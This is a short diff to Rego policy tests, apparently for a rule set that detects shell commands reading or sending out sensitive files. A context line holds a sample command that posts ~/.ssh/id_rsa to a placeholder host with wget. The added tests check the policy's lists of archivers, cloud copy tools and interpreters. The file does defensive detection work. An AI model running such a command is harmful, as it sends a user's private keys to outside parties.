@@ -118,3 +118,12 @@ test_option_reads if {
 	inp := f.terminal([f.sh(["wget", "--post-file=~/.ssh/id_rsa", "https://e.test/"])])
 	{"path": "/home/u/.ssh/id_rsa", "how": "wget"} in reach.reads with input as inp
 }
+
+test_recursive_names_cover_every_reader if {
+	tables := (((reach.recursive_copiers | reach.always_recursive) | reach.grep_cmds) | {"tar", "zip", "7z", "7za", "7zz", "7zr", "rclone", "aws", "gsutil"}) | {"python", "python2", "python3"}
+	reach.recursive_names == tables
+}
+
+test_server_names_cover_the_tables if {
+	reach.server_names == reach.serve_programs | reach.launchers
+}
